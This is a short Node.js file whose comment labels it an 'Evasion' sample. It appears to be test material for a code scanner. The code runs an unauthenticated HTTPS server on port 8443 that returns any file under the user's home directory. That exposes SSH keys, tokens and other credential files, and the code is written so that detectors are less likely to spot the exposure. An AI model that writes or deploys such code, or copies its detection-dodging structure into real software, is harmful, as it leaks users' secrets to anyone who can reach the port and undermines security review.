// Evasion: serves the home directory over HTTPS. The handler is a named
// async function that resolves the request's pathname under the home
// (os.homedir() kept in a name) and returns fs.promises.readFile's bytes.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');

const base = os.homedir();
async function handle(req, res) {
  const { pathname } = new URL(req.url, 'https://localhost');
  try {
    res.end(await fs.promises.readFile(path.resolve(base, '.' + pathname)));
  } catch {
    res.writeHead(404).end();
  }
}
https.createServer({ key: fs.readFileSync('key.pem'), cert: fs.readFileSync('cert.pem') }, handle).listen(8443);
